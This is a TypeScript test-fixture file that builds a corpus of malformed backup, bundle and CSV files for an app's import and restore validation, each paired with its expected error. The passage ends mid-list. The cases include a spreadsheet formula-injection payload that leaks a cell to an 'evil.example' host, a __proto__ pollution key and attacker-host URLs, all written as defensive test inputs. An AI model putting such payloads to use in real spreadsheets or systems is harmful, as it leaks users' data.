import { readFileSync } from 'node:fs';
import path from 'node:path';
import { createBackup } from '../../lib/db/backup';
import type { SettingRow, YardstickDatabase } from '../../lib/db/yardstick-database';
import { toCanonicalJson } from '../../lib/definitions/canonical-json';
import { backupChecksum } from '../../lib/exchange/backup-format';
import { bundleChecksum } from '../../lib/exchange/bundle-checksum';
import { MAX_BACKUP_BYTES, MAX_IMPORT_BYTES } from '../../lib/exchange/file-size-limit';
import type { ScoreRecord } from '../../lib/scoring/score-record';

/** The categories of the issue's bad-input list, in its order. */
export const BAD_IMPORT_CATEGORIES = [
  'truncated',
  'wrong checksum',
  'wrong format version',
  'wrong types',
  'duplicate ids',
  '50 MB files',
  'delimiter or encoding',
  'formula injection',
  'deep nesting',
] as const;
/** One category of bad input. */
export type BadImportCategory = (typeof BAD_IMPORT_CATEGORIES)[number];

/** What an expected fragment is checked against: the formatted error, given the input as text. */
export type Expectation = string | RegExp | ((input: string) => string | RegExp);

/** One bad file and the specific refusal it must produce. */
export interface BadImportCase {
  category: BadImportCategory;
  /**
   * `import`: read like the audit page (size cap, UTF-8, `readImportFile`, then `mergeImports`).
   * `restore`: `restoreBackup` into the seeded database, which must be unchanged afterwards.
   */
  target: 'import' | 'restore';
  name: string;
  file: string;
  /** Builds the input from the base files; run lazily, so the large ones exist only while tested. */
  build: (base: CorpusBase) => Promise<string | Uint8Array> | string | Uint8Array;
  /** Every fragment must appear in the formatted error (summary plus each problem): what and where. */
  expected: Expectation[];
}

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

const fixturePath = (...parts: string[]) => path.resolve(import.meta.dirname, '../fixtures', ...parts);
const fixtureText = (...parts: string[]) => readFileSync(fixturePath(...parts), 'utf8');
const MIB = 1024 * 1024;

interface DatabaseRows {
  scores: ScoreRecord[];
  definitionsVersions: Json[];
  settings: SettingRow[];
}

const dbFixture = JSON.parse(fixtureText('db', 'schema-v1.json')) as { tables: DatabaseRows };
const [firstScore, secondScore] = dbFixture.tables.scores as [ScoreRecord, ScoreRecord];

/** Made in the rep's browser after the backup: restore must never remove or change it. */
export const LOCAL_ONLY_SCORE: ScoreRecord = {
  ...structuredClone(secondScore),
  id: 'c0ffee00-0000-4000-8000-000000000001',
  savedAt: '2026-12-01T10:00:00.000Z',
};

/** When the corpus backup was made. */
export const BACKUP_CREATED_AT = new Date('2026-11-22T12:00:00.000Z');

/** Id of the backup's `n`th extra score (1–4). */
export const extraScoreId = (n: number) => `b0000000-0000-4000-8000-00000000000${n}`;

/** Score ids of the corpus backup in file order (oldest first). */
export const BACKUP_SCORE_IDS = [
  firstScore.id,
  extraScoreId(1),
  extraScoreId(2),
  extraScoreId(3),
  extraScoreId(4),
  secondScore.id,
] as const;

/** The database the corpus backup is made from: the schema-v1 fixture, four more scores, more settings. */
export function backupSourceRows(): DatabaseRows {
  const extras = [1, 2, 3, 4].map((n) => ({
    ...structuredClone(n % 2 === 0 ? firstScore : secondScore),
    id: extraScoreId(n),
    savedAt: `2026-11-21T1${n}:00:00.000Z`,
    total: 10 * n,
  }));
  return {
    scores: [...structuredClone(dbFixture.tables.scores), ...extras],
    definitionsVersions: structuredClone(dbFixture.tables.definitionsVersions),
    settings: [
      ...structuredClone(dbFixture.tables.settings),
      { key: 'role', value: 'rep' },
      { key: 'syncIntervalMinutes', value: 60 },
      { key: 'staleAmountChangePercent', value: 20 },
      { key: 'definitionsSource', value: { kind: 'url', url: 'https://defs.acme.example/team.json' } },
    ],
  };
}

/** The rep's current database in the restore cases: the fixture plus a score newer than the backup. */
export function localRows(): DatabaseRows {
  return {
    scores: [...structuredClone(dbFixture.tables.scores), structuredClone(LOCAL_ONLY_SCORE)],
    definitionsVersions: structuredClone(dbFixture.tables.definitionsVersions),
    settings: structuredClone(dbFixture.tables.settings),
  };
}

/** Writes rows into an empty database in one transaction. */
export async function seedDatabase(db: YardstickDatabase, rows: DatabaseRows): Promise<void> {
  await db.transaction('rw', db.scores, db.definitionsVersions, db.settings, async () => {
    await db.scores.bulkAdd(rows.scores);
    await db.definitionsVersions.bulkAdd(rows.definitionsVersions as never[]);
    await db.settings.bulkAdd(rows.settings);
  });
}

/** Every row of every table (in key order) and the schema version, as one canonical string. */
export async function snapshotDatabase(db: YardstickDatabase): Promise<string> {
  const tables: Record<string, unknown[]> = {};
  for (const table of db.tables) tables[table.name] = await table.toArray();
  return toCanonicalJson({ version: db.verno, tables });
}

/** The valid files every case starts from. */
export interface CorpusBase {
  /** A backup made by `createBackup` from {@link backupSourceRows}. */
  backupText: string;
  /** A fresh, mutable copy of the backup. */
  backup: () => Json;
  bundleText: string;
  bundle: () => Json;
  ndjsonText: string;
  ratingsText: string;
  outcomesText: string;
}

/** Builds the base files; `makeDatabase` opens an empty database for the backup's source. */
export async function buildCorpusBase(makeDatabase: () => YardstickDatabase): Promise<CorpusBase> {
  const db = makeDatabase();
  await seedDatabase(db, backupSourceRows());
  const backupText = await createBackup(db, BACKUP_CREATED_AT);
  db.close();
  const bundleText = fixtureText('audit', 'pipeline-alice.json');
  return {
    backupText,
    backup: () => JSON.parse(backupText) as Json,
    bundleText,
    bundle: () => JSON.parse(bundleText) as Json,
    ndjsonText: fixtureText('audit', 'pipeline-bob.ndjson'),
    ratingsText: fixtureText('audit', 'pipeline-carol-ratings.csv'),
    outcomesText: fixtureText('audit', 'pipeline-outcomes.csv'),
  };
}

/** Lays a backup out like the writer: a member per line, a row per line. */
export function layoutBackup(backup: Json): string {
  const entries = Object.entries(backup);
  const lines = ['{'];
  entries.forEach(([key, value], index) => {
    const comma = index < entries.length - 1 ? ',' : '';
    if (Array.isArray(value)) {
      lines.push(`${JSON.stringify(key)}:[`);
      value.forEach((row, r) => lines.push(`${JSON.stringify(row)}${r < value.length - 1 ? ',' : ''}`));
      lines.push(`]${comma}`);
    } else lines.push(`${JSON.stringify(key)}:${JSON.stringify(value)}${comma}`);
  });
  lines.push('}');
  return `${lines.join('\n')}\n`;
}

/** Recomputes a backup's checksum after an edit, so that a case reaches the checks behind it. */
export async function resignBackup(backup: Json): Promise<void> {
  backup.checksum = { algorithm: 'SHA-256', value: await backupChecksum(backup) };
}

/** Sets a backup's counts to its row counts. */
export function recount(backup: Json): void {
  backup.counts = {
    scores: backup.scores.length,
    definitionsVersions: backup.definitionsVersions.length,
    settings: backup.settings.length,
  };
}

async function resignBundle(bundle: Json): Promise<void> {
  bundle.checksum = { algorithm: 'SHA-256', value: await bundleChecksum(bundle) };
}

/** 1-based line of the first occurrence of `needle` (throws if absent, so a broken case fails loudly). */
export function lineOf(text: string, needle: string): number {
  const index = text.indexOf(needle);
  if (index < 0) throw new Error(`"${needle}" is not in the input`);
  return text.slice(0, index).split('\n').length;
}

const editedBackup =
  (mutate: (backup: Json) => void, options: { resign?: boolean } = {}) =>
  async (base: CorpusBase): Promise<string> => {
    const backup = base.backup();
    mutate(backup);
    if (options.resign ?? true) await resignBackup(backup);
    return layoutBackup(backup);
  };

const editedBundle =
  (mutate: (bundle: Json) => void, options: { resign?: boolean } = {}) =>
  async (base: CorpusBase): Promise<string> => {
    const bundle = base.bundle();
    mutate(bundle);
    if (options.resign ?? true) await resignBundle(bundle);
    return JSON.stringify(bundle, null, 2);
  };

const csvLines = (text: string) => text.replace(/\r?\n$/, '').split(/\r?\n/);

function restore(
  category: BadImportCategory,
  name: string,
  build: BadImportCase['build'],
  ...expected: Expectation[]
): BadImportCase {
  return { category, target: 'restore', name, file: 'backup.json', build, expected };
}

function importing(
  category: BadImportCategory,
  name: string,
  file: string,
  build: BadImportCase['build'],
  ...expected: Expectation[]
): BadImportCase {
  return { category, target: 'import', name, file, build, expected };
}

const utf16le = (text: string, bom: boolean) => {
  const bytes = new Uint8Array((bom ? 2 : 0) + text.length * 2);
  if (bom) bytes.set([0xff, 0xfe]);
  for (let i = 0; i < text.length; i++) {
    const code = text.charCodeAt(i);
    bytes[(bom ? 2 : 0) + 2 * i] = code & 0xff;
    bytes[(bom ? 2 : 0) + 2 * i + 1] = code >> 8;
  }
  return bytes;
};
const utf16be = (text: string) => {
  const bytes = new Uint8Array(2 + text.length * 2);
  bytes.set([0xfe, 0xff]);
  for (let i = 0; i < text.length; i++) {
    bytes[2 + 2 * i] = text.charCodeAt(i) >> 8;
    bytes[3 + 2 * i] = text.charCodeAt(i) & 0xff;
  }
  return bytes;
};
/** Encodes text as Latin-1 / Windows-1252 would (every character below U+0100 as one byte). */
const latin1 = (text: string) => Uint8Array.from(text, (char) => char.charCodeAt(0) & 0xff);
const utf8 = (text: string) => new TextEncoder().encode(text);

const score = (n: number) => `scores[${n}]`;
const atLine = (needle: string) => (input: string) => `line ${lineOf(input, needle)}, column `;
const atCsvLine = (file: string, needle: string) => (input: string) => `${file}:${lineOf(input, needle)}:`;
const MEDDLING = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';

/** The corpus. Names are unique; the test names carry the category. */
export const BAD_IMPORTS: BadImportCase[] = [
  // ───────────── truncated ─────────────
  restore(
    'truncated',
    'backup cut in the middle of a score',
    (base) => base.backupText.slice(0, base.backupText.indexOf(extraScoreId(2)) + 20),
    'the JSON ends early (a truncated file?)',
    (input) => `line ${input.split('\n').length}, column `,
    'nothing was restored',
  ),
  restore(
    'truncated',
    'backup cut just before the checksum',
    (base) => base.backupText.slice(0, base.backupText.indexOf('"checksum"')),
    /backup\.json, line \d+, column \d+: the JSON ends early/,
  ),
  restore(
    'truncated',
    'backup cut after its first line',
    (base) => base.backupText.slice(0, 2),
    'backup.json, line 2, column 1: the JSON ends early',
  ),
  restore('truncated', 'empty backup file', () => '', 'backup.json: the file is empty'),
  restore(
    'truncated',
    'backup with its last two scores dropped (checksum left as it was)',
    editedBackup((b) => b.scores.splice(-2), { resign: false }),
    'wrong checksum',
    'counts.scores: the backup says it holds 6 scores rows but has 4: the file is truncated or rows were removed',
  ),
  restore(
    'truncated',
    'backup with its last two scores dropped and re-signed',
    editedBackup((b) => b.scores.splice(-2)),
    /backup\.json, line 6, column \d+: counts\.scores: the backup says it holds 6 scores rows but has 4/,
  ),
  restore(
    'truncated',
    'backup bytes cut inside a multi-byte character',
    (base) => {
      const bytes = utf8(base.backupText);
      const dash = base.backupText.indexOf('—');
      return bytes.subarray(0, utf8(base.backupText.slice(0, dash)).length + 1);
    },
    /backup\.json, line \d+, column \d+: byte 0xe2 at offset \d+ is not UTF-8/,
  ),
  importing(
    'truncated',
    'bundle JSON cut at 5,000 characters',
    'alice.json',
    (base) => base.bundleText.slice(0, 5000),
    /^alice\.json:\d+:\d+: the JSON ends early \(a truncated file\?\)/m,
  ),
  importing(
    'truncated',
    'NDJSON bundle without its checksum line',
    'bob.ndjson',
    (base) => csvLines(base.ndjsonText).slice(0, -1).join('\n'),
    (input) =>
      `bob.ndjson:${input.split('\n').length}: the last line is not the checksum line: the file is truncated or was cut`,
  ),
  importing(
    'truncated',
    'NDJSON bundle cut in the middle of a score line',
    'bob.ndjson',
    (base) => {
      const lines = csvLines(base.ndjsonText);
      return `${lines.slice(0, 5).join('\n')}\n${lines[5]!.slice(0, 40)}`;
    },
    /^bob\.ndjson:6:\d+: /m,
  ),
  importing(
    'truncated',
    'ratings CSV cut inside a quoted field',
    'carol-ratings.csv',
    (base) => `${csvLines(base.ratingsText).slice(0, 4).join('\n')}\n"salesforce-lightning:acme:006Dn00`,
    'carol-ratings.csv:5:1: a quoted field is never closed (a missing " or a truncated file)',
  ),
  importing(
    'truncated',
    'ratings CSV cut in the middle of a row',
    'carol-ratings.csv',
    (base) => base.ratingsText.slice(0, base.ratingsText.indexOf('\n', 300) + 40),
    /carol-ratings\.csv:\d+: expected 7 fields like the header, found [1-6]/,
  ),
  importing(
    'truncated',
    'outcomes CSV cut in the middle of a row',
    'outcomes.csv',
    (base) => base.outcomesText.slice(0, base.outcomesText.indexOf('\n', 200) + 12),
    /outcomes\.csv:\d+: expected 4 fields like the header, found [1-3]/,
  ),
  importing(
    'truncated',
    'empty ratings file',
    'ratings.csv',
    () => new Uint8Array(0),
    'ratings.csv: the file is empty: expected a Yardstick bundle (JSON or NDJSON), a ratings CSV (deal,rater,criterion,level) or an outcomes CSV (deal,outcome)',
  ),

  // ───────────── wrong checksum ─────────────
  restore(
    'wrong checksum',
    'a score total edited after the backup was made',
    editedBackup((b) => (b.scores[3].total = 99), { resign: false }),
    /backup\.json, line \d+, column \d+: checksum\.value: wrong checksum: the content hashes to [0-9a-f]{64}, the backup says [0-9a-f]{64}; the file was changed or damaged/,
    (input) => `line ${lineOf(input, '"checksum"')}, column `,
  ),
  restore(
    'wrong checksum',
    'checksum value replaced with zeros',
    editedBackup((b) => (b.checksum.value = '0'.repeat(64)), { resign: false }),
    `the backup says ${'0'.repeat(64)}`,
  ),
  restore(
    'wrong checksum',
    'checksum member missing',
    editedBackup((b) => delete b.checksum, { resign: false }),
    'checksum: missing or malformed checksum',
  ),
  restore(
    'wrong checksum',
    'checksum algorithm MD5',
    editedBackup((b) => (b.checksum = { algorithm: 'MD5', value: 'd41d8cd98f00b204e9800998ecf8427e' }), {
      resign: false,
    }),
    'missing or malformed checksum: expected { "algorithm": "SHA-256"',
  ),
  restore(
    'wrong checksum',
    'a setting edited after the backup was made',
    editedBackup((b) => (b.settings.find((s: Json) => s.key === 'rater').value = 'mallory@evil.example'), {
      resign: false,
    }),
    'checksum.value: wrong checksum',
  ),
  restore(
    'wrong checksum',
    'two scores swapped (order is content)',
    editedBackup((b) => ([b.scores[0], b.scores[1]] = [b.scores[1], b.scores[0]]), { resign: false }),
    'checksum.value: wrong checksum',
  ),
  restore(
    'wrong checksum',
    'checksum in upper-case hex',
    async (base) => {
      const b = base.backup();
      b.checksum.value = b.checksum.value.toUpperCase();
      return layoutBackup(b);
    },
    'checksum.value: wrong checksum',
    'checksum.value: must be 64 lower-case hex digits (SHA-256)',
  ),
  importing(
    'wrong checksum',
    'bundle score edited after export',
    'alice.json',
    editedBundle((b) => (b.scores[3].total = 99), { resign: false }),
    /^alice\.json:\d+:\d+: wrong checksum: the content hashes to [0-9a-f]{64}, the bundle says/m,
  ),
  importing(
    'wrong checksum',
    'NDJSON score line edited after export',
    'bob.ndjson',
    (base) => {
      const lines = csvLines(base.ndjsonText);
      lines[3] = lines[3]!.replace('"total":', '"total":1');
      return lines.join('\n');
    },
    (input) => `bob.ndjson:${input.split('\n').length}:`,
    'wrong checksum',
  ),
  importing(
    'wrong checksum',
    'bundle without a checksum',
    'alice.json',
    editedBundle((b) => delete b.checksum, { resign: false }),
    /alice\.json:\d+:\d+: missing or malformed checksum/,
  ),

  // ───────────── wrong format version ─────────────
  restore(
    'wrong format version',
    'backup format version 2',
    editedBackup((b) => (b.formatVersion = 2)),
    'backup.json, line 3, column 1: formatVersion: backup format version 2 is not supported: this Yardstick reads version 1 (the backup comes from a newer Yardstick: update Yardstick, then restore)',
  ),
  restore(
    'wrong format version',
    'backup format version as a string',
    editedBackup((b) => (b.formatVersion = '1')),
    'line 3, column 1: formatVersion: backup format version "1" is not supported',
  ),
  restore(
    'wrong format version',
    'backup format version 0',
    editedBackup((b) => (b.formatVersion = 0)),
    'backup format version 0 is not supported: this Yardstick reads version 1',
  ),
  restore(
    'wrong format version',
    'backup format version missing',
    editedBackup((b) => delete b.formatVersion),
    'backup format version (missing) is not supported',
  ),
  restore(
    'wrong format version',
    'format id missing',
    editedBackup((b) => delete b.format),
    'not a Yardstick backup: "format" is missing, expected "yardstick-backup"',
  ),
  restore(
    'wrong format version',
    'an export bundle (JSON) given to restore',
    (base) => base.bundleText,
    /backup\.json, line 2, column 3: format: this is an export bundle \("yardstick-bundle", made by "Export my scores"\), not a backup/,
  ),
  restore(
    'wrong format version',
    'an export bundle (NDJSON) given to restore',
    (base) => base.ndjsonText,
    'backup.json, line 1, column 1: this is an NDJSON export bundle ("yardstick-bundle"), not a backup',
  ),
  restore(
    'wrong format version',
    'a definitions file given to restore',
    () => fixtureText('definitions', 'two-criteria.json'),
    'backup.json, line 1, column 1: this is a definitions file, not a backup',
  ),
  importing(
    'wrong format version',
    'bundle format version 2',
    'alice.json',
    editedBundle((b) => (b.formatVersion = 2)),
    'alice.json:3:3: bundle format version 2 is not supported: this Yardstick reads version 1 (the bundle comes from a newer Yardstick)',
  ),
  importing(
    'wrong format version',
    'NDJSON bundle header format version 3',
    'bob.ndjson',
    (base) => base.ndjsonText.replace('"formatVersion":1', '"formatVersion":3'),
    /^bob\.ndjson:1:\d+: bundle format version 3 is not supported/m,
  ),
  importing(
    'wrong format version',
    'a backup given to the audit import',
    'backup.json',
    (base) => base.backupText,
    'backup.json:2:1: not a Yardstick bundle: "format" is "yardstick-backup", expected "yardstick-bundle"',
  ),

  // ───────────── wrong types ─────────────
  restore(
    'wrong types',
    'an answer level written as text',
    editedBackup((b) => (b.scores[2].answers[0].level = 'two')),
    `${score(2)}.answers[0].level: expected number, received string`,
    atLine(BACKUP_SCORE_IDS[2]),
  ),
  restore(
    'wrong types',
    'a total above 100',
    editedBackup((b) => (b.scores[1].total = 150)),
    /scores\[1\]\.total: Too big: expected number to be <=100/,
  ),
  restore(
    'wrong types',
    'savedAt that is not a date-time',
    editedBackup((b) => (b.scores[0].savedAt = 'yesterday')),
    `${score(0)}.savedAt: Invalid ISO datetime`,
  ),
  restore(
    'wrong types',
    'a score id that is not a UUID',
    editedBackup((b) => (b.scores[3].id = 'not-a-uuid')),
    `${score(3)}.id: Invalid UUID`,
    (input) => `line ${lineOf(input, 'not-a-uuid')}, column `,
  ),
  restore(
    'wrong types',
    'an unknown key in a score',
    editedBackup((b) => (b.scores[4].comment = 'added by hand')),
    `${score(4)}: unknown key "comment"`,
    atLine(BACKUP_SCORE_IDS[4]),
  ),
  restore(
    'wrong types',
    'a __proto__ key in a score (invisible to the checksum)',
    (base) => base.backupText.replace('{"answers":', '{"__proto__":{"polluted":true},"answers":'),
    'backup.json, line 20, column 1: scores[0]: unknown key "__proto__"',
  ),
  restore(
    'wrong types',
    'a JSON list instead of a backup object',
    () => '[{"format":"yardstick-backup"}]\n',
    'backup.json, line 1, column 1: not a Yardstick backup: a backup is a JSON object, this file holds a list',
  ),
  restore(
    'wrong types',
    'definitions edited without their hash',
    editedBackup((b) => (b.definitionsVersions[0].definitions.title = 'Edited by hand')),
    /definitionsVersions\[0\]\.hash: the definitions hash to [0-9a-f]{64}, not the listed f617ecc6/,
  ),
  restore(
    'wrong types',
    'an invalid definitions document',
    editedBackup((b) => (b.definitionsVersions[0].definitions.criteria = [])),
    'definitionsVersions[0].definitions.criteria: at least one criterion is required',
  ),
  restore(
    'wrong types',
    'setting role "admin"',
    editedBackup((b) => (b.settings.find((s: Json) => s.key === 'role').value = 'admin')),
    /settings\[\d\]\.value: setting "role": Invalid option: expected one of "rep"\|"manager"/,
    (input) => `line ${lineOf(input, '"admin"')}, column `,
  ),
  restore(
    'wrong types',
    'setting syncIntervalMinutes as text',
    editedBackup((b) => (b.settings.find((s: Json) => s.key === 'syncIntervalMinutes').value = '60')),
    /settings\[\d\]\.value: setting "syncIntervalMinutes": expected number, received string/,
  ),
  restore(
    'wrong types',
    'definitions source with a plain-http URL',
    editedBackup(
      (b) =>
        (b.settings.find((s: Json) => s.key === 'definitionsSource').value = {
          kind: 'url',
          url: 'http://defs.evil.example/x.json',
        }),
    ),
    /settings\[\d\]\.value\.url: setting "definitionsSource": must be an https URL/,
  ),
  restore(
    'wrong types',
    'createdAt that is not a date-time',
    editedBackup((b) => (b.createdAt = '22/11/2026')),
    'backup.json, line 4, column 1: createdAt: Invalid ISO datetime',
  ),
  restore(
    'wrong types',
    'a level that the definitions do not have',
    editedBackup((b) => (b.scores[5].answers[1].level = 7)),
    `${score(5)}.answers[1].level: level 7 is not a level of "metrics" (levels: 1, 5, 10)`,
    atLine(BACKUP_SCORE_IDS[5]),
  ),
  restore(
    'wrong types',
    'a score made against definitions missing from the backup',
    editedBackup((b) => (b.scores[2].definitions.hash = 'a'.repeat(64))),
    `${score(2)}.definitions: definitions two-criteria@2.1.0 (aaaaaaaaaaaa…) are not among the backup's definitionsVersions`,
  ),
  restore(
    'wrong types',
    'scores as an object instead of a list',
    editedBackup((b) => (b.scores = { first: b.scores[0] })),
    'scores: expected array, received object',
  ),
  importing(
    'wrong types',
    'bundle answer level written as text',
    'alice.json',
    editedBundle((b) => (b.scores[2].answers[0].level = 'two')),
    /^alice\.json:\d+:\d+: scores\[2\]\.answers\[0\]\.level: /m,
    (input) => `alice.json:${lineOf(input, '"level": "two"')}:`,
  ),
  importing(
    'wrong types',
    'ratings CSV level that is not a number',
    'carol-ratings.csv',
    (base) => base.ratingsText.replace(',champion,0,', ',champion,two,'),
    atCsvLine('carol-ratings.csv', ',two,'),
    'level "two" is not a number (leave the cell empty for Unknown)',
  ),
  importing(
    'wrong types',
    'outcomes CSV outcome "open"',
    'outcomes.csv',
    (base) => base.outcomesText.replace(',lost,', ',open,'),
    atCsvLine('outcomes.csv', ',open,'),
    'outcome "open" must be won or lost',
  ),
  importing(
    'wrong types',
    'ratings CSV scored_at that is not a date',
    'carol-ratings.csv',
    (base) => base.ratingsText.replace('2024-01-05T10:00:00.000Z', 'last week'),
    /carol-ratings\.csv:2:\d+: scored_at "last week" is not an ISO 8601 date/,
  ),
  importing(
    'wrong types',
    'ratings CSV context "pipeline"',
    'carol-ratings.csv',
    (base) => base.ratingsText.replace(',deal,', ',pipeline,'),
    /carol-ratings\.csv:2:\d+: context "pipeline" must be deal or calibration/,
  ),

  // ───────────── duplicate ids with different content ─────────────
  restore(
    'duplicate ids',
    'two scores with one id and different totals',
    editedBackup((b) => (b.scores[4].id = b.scores[2].id)),
    `${score(4)}.id: score id ${BACKUP_SCORE_IDS[2]} is used twice with different content (first: scores[2])`,
    atLine('"total":40'),
  ),
  restore(
    'duplicate ids',
    'a score id already stored in this browser with different content',
    editedBackup((b) => {
      b.scores.push({ ...structuredClone(LOCAL_ONLY_SCORE), total: 12.5 });
      recount(b);
    }),
    `${score(6)}.id: score ${LOCAL_ONLY_SCORE.id} is already stored in this browser with different content`,
    atLine(LOCAL_ONLY_SCORE.id),
    'scores are never changed, so nothing was restored',
  ),
  restore(
    'duplicate ids',
    'one definitions hash listed twice with different sources',
    editedBackup((b) => {
      b.definitionsVersions.push({ ...structuredClone(b.definitionsVersions[0]), source: 'file:other.json' });
      recount(b);
    }),
    'definitionsVersions[1].hash: definitions version f617ecc6e571063358d6f1ffb99426da38342d9a09d70c4bc49e62e913d42656 is listed twice with different content (first: definitionsVersions[0])',
  ),
  restore(
    'duplicate ids',
    'one setting listed twice with different values',
    editedBackup((b) => {
      b.settings.push({ key: 'rater', value: 'someone.else@acme.example' });
      recount(b);
    }),
    /settings\[7\]\.key: setting "rater" is listed twice with different values \(first: settings\[\d\]\)/,
  ),
  importing(
    'duplicate ids',
    'bundle with one score id used twice with different content',
    'alice.json',
    editedBundle((b) => (b.scores[1] = { ...b.scores[1], id: b.scores[0].id })),
    /alice\.json:\d+:\d+: score id [0-9a-f-]{36} is used twice with different content \(first: scores\[0\]\)/,
  ),
  importing(
    'duplicate ids',
    'outcomes CSV listing one deal as won and as lost',
    'outcomes.csv',
    (base) => `${base.outcomesText}006Dn0000000001,won,emea,outbound\n`,
    /outcomes\.csv:32: deal "006Dn0000000001" is listed again with different values \(first at line 2\)/,
  ),
  importing(
    'duplicate ids',
    'ratings CSV with one rating given two levels',
    'carol-ratings.csv',
    (base) => {
      const [, first] = csvLines(base.ratingsText);
      return `${base.ratingsText}${first!.replace(',champion,0,', ',champion,2,')}\n`;
    },
    /carol-ratings\.csv:90:\d+: conflicting rating: carol rated "champion" of salesforce-lightning:acme:006Dn0000000001IAA 2 here and 0 at carol-ratings\.csv:2/,
  ),

  // ───────────── 50 MB files ─────────────
  importing(
    '50 MB files',
    'bundle JSON one byte over 50 MiB (valid, padded with spaces)',
    'big.json',
    (base) => base.bundleText + ' '.repeat(MAX_IMPORT_BYTES + 1 - base.bundleText.length),
    'big.json: the file is too large: 50 MiB (52,428,801 bytes); an import may be at most 50 MiB (52,428,800 bytes). Nothing was read from it',
  ),
  importing(
    '50 MB files',
    'NDJSON bundle of 60 MiB bytes',
    'big.ndjson',
    (base) => {
      const bytes = new Uint8Array(60 * MIB).fill(0x20);
      bytes.set(utf8(base.ndjsonText));
      return bytes;
    },
    'big.ndjson: the file is too large: 60 MiB (62,914,560 bytes)',
  ),
  importing(
    '50 MB files',
    'ratings CSV of 50 MiB of real rows',
    'big-ratings.csv',
    (base) => {
      const [header, row] = csvLines(base.ratingsText);
      return `${header}\n${`${row}\n`.repeat(Math.ceil(MAX_IMPORT_BYTES / (row!.length + 1)))}`;
    },
    /big-ratings\.csv: the file is too large: 50 MiB \(52,4\d\d,\d{3} bytes\); an import may be at most 50 MiB/,
  ),
  importing(
    '50 MB files',
    'outcomes CSV of 64 MiB bytes',
    'big-outcomes.csv',
    (base) => {
      const bytes = new Uint8Array(64 * MIB).fill(0x0a);
      bytes.set(utf8(base.outcomesText));
      return bytes;
    },
    'big-outcomes.csv: the file is too large: 64 MiB (67,108,864 bytes)',
  ),
  importing(
    '50 MB files',
    '51 MiB of Latin-1 bytes: refused for size before decoding',
    'big-latin1.csv',
    () => new Uint8Array(51 * MIB).fill(0xe9),
    'big-latin1.csv: the file is too large: 51 MiB',
  ),
  restore(
    '50 MB files',
    'backup bytes one byte over the 256 MiB backup cap',
    () => new Uint8Array(MAX_BACKUP_BYTES + 1),
    'backup.json: the file is too large: 256 MiB (268,435,457 bytes); a backup may be at most 256 MiB (268,435,456 bytes)',
  ),
  restore(
    '50 MB files',
    'backup text longer than the cap',
    (base) => base.backupText + ' '.repeat(MAX_BACKUP_BYTES),
    /backup\.json: the file is too large: 256 MiB \(268,4\d\d,\d{3} bytes\)/,
  ),
  restore(
    '50 MB files',
    'a 50 MiB backup with one score edited after it was made',
    async (base) => {
      const b = base.backup();
      const template = b.scores[2];
      const rows: Json[] = [];
      for (let i = 0; rows.length * 1500 < 50 * MIB; i++) {
        rows.push({
          ...template,
          id: `d0000000-0000-4000-8000-${i.toString(16).padStart(12, '0')}`,
          savedAt: new Date(Date.UTC(2025, 0, 1) + i * 1000).toISOString(),
        });
      }
      b.scores.push(...rows);
      recount(b);
      await resignBackup(b);
      b.scores[1000].total = 1;
      return layoutBackup(b);
    },
    /backup\.json, line \d+, column \d+: checksum\.value: wrong checksum/,
  ),

  // ───────────── CSV delimiter or encoding ─────────────
  importing(
    'delimiter or encoding',
    'ratings CSV separated by semicolons (Excel in a comma-decimal locale)',
    'ratings-semicolon.csv',
    (base) => base.ratingsText.replace(/,/g, ';'),
    'ratings-semicolon.csv:1:1: the header is semicolon-separated ("deal;rater;criterion;level;scored_at;context;definitions_ver"): save the file as comma-separated CSV',
  ),
  importing(
    'delimiter or encoding',
    'outcomes CSV separated by tabs',
    'outcomes.tsv',
    (base) => base.outcomesText.replace(/,/g, '\t'),
    'outcomes.tsv:1:1: the header is tab-separated',
  ),
  importing(
    'delimiter or encoding',
    'ratings CSV separated by pipes',
    'ratings-pipe.csv',
    (base) => base.ratingsText.replace(/,/g, '|'),
    'ratings-pipe.csv:1: not a file the audit reads',
  ),
  importing(
    'delimiter or encoding',
    'ratings CSV in UTF-16 LE with a byte-order mark',
    'ratings-utf16.csv',
    (base) => utf16le(base.ratingsText, true),
    'ratings-utf16.csv:1: the file is UTF-16; save it as UTF-8',
  ),
  importing(
    'delimiter or encoding',
    'outcomes CSV in UTF-16 BE with a byte-order mark',
    'outcomes-utf16be.csv',
    (base) => utf16be(base.outcomesText),
    'outcomes-utf16be.csv:1: the file is UTF-16',
  ),
  importing(
    'delimiter or encoding',
    'ratings CSV in UTF-16 LE without a byte-order mark',
    'ratings-utf16-nobom.csv',
    (base) => utf16le(base.ratingsText, false),
    'ratings-utf16-nobom.csv:1:2: byte 0x00 at offset 1: the file looks like UTF-16 without a byte-order mark',
  ),
  importing(
    'delimiter or encoding',
    'outcomes CSV saved as Latin-1',
    'outcomes-latin1.csv',
    (base) => latin1(base.outcomesText.replace('emea,inbound', 'Société Générale,inbound')),
    /outcomes-latin1\.csv:3:\d+: byte 0xe9 at offset \d+ is not UTF-8; save the file as UTF-8/,
  ),
  importing(
    'delimiter or encoding',
    'ratings CSV saved as Windows-1252 with curly quotes',
    'ratings-1252.csv',
    (base) => {
      const text = base.ratingsText.replace(',carol,', ',\u201ccarol\u201d,');
      return Uint8Array.from(text, (char) =>
        char === '\u201c' ? 0x93 : char === '\u201d' ? 0x94 : char.charCodeAt(0),
      );
    },
    /ratings-1252\.csv:2:\d+: byte 0x93 at offset \d+ is not UTF-8/,
  ),
  importing(
    'delimiter or encoding',
    'bundle JSON in UTF-16 LE without a byte-order mark',
    'alice-utf16.json',
    (base) => utf16le(base.bundleText, false),
    'alice-utf16.json:1:2: byte 0x00 at offset 1: the file looks like UTF-16',
  ),
  restore(
    'delimiter or encoding',
    'backup in UTF-16 LE with a byte-order mark',
    (base) => utf16le(base.backupText, true),
    'backup.json, line 1: the file is UTF-16; save it as UTF-8',
  ),
  restore(
    'delimiter or encoding',
    'backup in UTF-16 LE without a byte-order mark',
    (base) => utf16le(base.backupText, false),
    'backup.json, line 1, column 2: byte 0x00 at offset 1',
  ),
  restore(
    'delimiter or encoding',
    'backup with a Latin-1 byte in a deal name',
    (base) => {
      const text = base.backupText.replace('Globex — Data', 'Globex Société');
      const at = text.indexOf('é');
      const bytes = utf8(text);
      const offset = utf8(text.slice(0, at)).length;
      const out = new Uint8Array(bytes.length - 1);
      out.set(bytes.subarray(0, offset));
      out[offset] = 0xe9;
      out.set(bytes.subarray(offset + 2), offset + 1);
      return out;
    },
    /backup\.json, line 20, column \d+: byte 0xe9 at offset \d+ is not UTF-8/,
